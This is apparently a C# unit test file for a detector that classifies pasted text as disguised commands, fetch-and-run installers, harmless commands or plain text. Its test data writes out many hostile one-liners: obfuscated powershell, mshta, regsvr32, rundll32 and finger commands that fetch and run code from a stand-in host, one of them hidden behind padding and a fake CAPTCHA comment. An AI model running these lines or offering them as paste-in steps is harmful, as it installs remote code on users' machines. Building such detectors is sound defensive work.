using FsCheck;
using FsCheck.Fluent;
using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour;

public sealed class PastedCommandTests
{
    [Theory]
    [InlineData("powershell -w h -c iex(irm https://evil.example/x.txt)")]
    [InlineData("PowerShell.exe -WindowStyle Hidden -Command \"iwr evil.example/a | iex\"")]
    [InlineData("p^ow^ershell -ep bypass -enc SQBFAFgAIAAoAG4AZQB3AC0AbwBiAGoA")]
    [InlineData("po\"\"wershell -W Hidden irm evil.example/a")]
    [InlineData("powershell -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ=='))\"")]
    [InlineData("                                                            mshta https://evil.example/a.hta # I am not a robot: 5521")]
    [InlineData("mshta.exe evil.example")]
    [InlineData("C:\\Windows\\System32\\mshta.exe http://evil.example")]
    [InlineData("%COMSPEC% /c start /min mshta http://evil.example")]
    [InlineData("cmd /c start \"\" /min mshta http://evil.example")]
    [InlineData("ssh -o ProxyCommand=\"mshta http://evil.example\" .")]
    [InlineData("forfiles /p c:\\windows /m notepad.exe /c \"mshta http://evil.example\"")]
    [InlineData("conhost --headless powershell -c \"irm http://evil.example/a\" mshta http://evil.example")]
    [InlineData("msiexec /i https://evil.example/update.msi /qn")]
    [InlineData("regsvr32 /s /n /u /i:https://evil.example/a.sct scrobj.dll")]
    [InlineData("rundll32 \\\\evil.example@80\\x\\a.dll,Run")]
    [InlineData("explorer \\\\evil.example@SSL\\share\\plan.lnk")]
    [InlineData("cmd /c finger user@evil.example | cmd")]
    [InlineData("echo YmFzaCAtaQ== | base64 -d | bash")]
    [InlineData("cmd /c curl -o %temp%\\a.exe https://evil.example/a.exe && start %temp%\\a.exe")]
    public void A_disguised_command_is_known(string text) => Assert.Equal(PastedKind.Disguised, PastedCommand.Of(text).Kind);

    [Theory]
    [InlineData("curl -fsSL https://tool.example/i.sh | bash")]
    [InlineData("curl -fsSL https://tool.example/i.sh | sudo bash")]
    [InlineData("/bin/bash -c \"$(curl -fsSL https://tool.example/i.sh)\"")]
    [InlineData("wget -qO- https://tool.example/i.sh | sh")]
    [InlineData("iex(irm https://tool.example/x)")]
    [InlineData("iwr -useb tool.example/x | iex")]
    [InlineData("irm tool.example/x|iex")]
    [InlineData("powershell -ep bypass -c \"irm tool.example/u | iex\"")]
    [InlineData("$u='https://tool.example/a'; iex (Invoke-WebRequest $u).Content")]
    [InlineData("IEX ((New-Object System.Net.WebClient).DownloadString('https://tool.example/i.ps1'))")]
    [InlineData("sudo curl -sL https://tool.example/i -o /tmp/i && chmod +x /tmp/i && /tmp/i")]
    public void A_command_that_installs_what_it_fetches_is_known(string text) => Assert.Equal(PastedKind.Installs, PastedCommand.Of(text).Kind);

    [Theory]
    [InlineData("powershell Get-ChildItem -Recurse")]
    [InlineData("cmd /k ipconfig /all")]
    [InlineData("python3 report.py --year 2026")]
    public void A_command_that_only_starts_something_says_little(string text) => Assert.Equal(PastedKind.Starts, PastedCommand.Of(text).Kind);

    [Theory]
    [InlineData("")]
    [InlineData("hello")]
    [InlineData("pip install numpy")]
    [InlineData("docker run -p 80:80 nginx")]
    [InlineData("git clone https://git.partner.example/a.git")]
    [InlineData("curl https://api.partner.example/v1/items")]
    [InlineData("\\\\fileserver\\projects\\2026\\plan.xlsx")]
    [InlineData("https://partner.example/a?powershell")]
    [InlineData("The article about powershell and https://partner.example")]
    public void Other_texts_are_no_commands(string text) => Assert.Equal(PastedKind.None, PastedCommand.Of(text).Kind);

    [Theory]
    [InlineData("1. Press Windows + R\n2. Paste this:\n\nmshta https://evil.example/a.hta\n\nRegards", "mshta https://evil.example/a.hta")]
    [InlineData("次の文字列: powershell -w h irm evil.example/a|iex", "powershell -w h irm evil.example/a|iex")]
    [InlineData("> PS C:\\> iwr evil.example/a | iex", "iwr evil.example/a | iex")]
    public void A_command_is_found_among_other_words(string text, string command) => Assert.Equal(command, PastedCommand.In(text, 50).Command);

    [Fact]
    public void Any_text_is_read()
    {
        Prop.ForAll<NonNull<string>>(text => PastedCommand.In(text.Get, 10).Kind >= PastedKind.None && PastedCommand.Of($"powershell {text.Get}").Command.Length <= text.Get.Length + 11).QuickCheckThrowOnFailure();
    }

    [Fact]
    public void A_long_text_is_read_to_its_bound()
    {
        Assert.True(PastedCommand.Of($"powershell {new string('a', 100_000)}").Command.Length <= 8_000);
    }
}
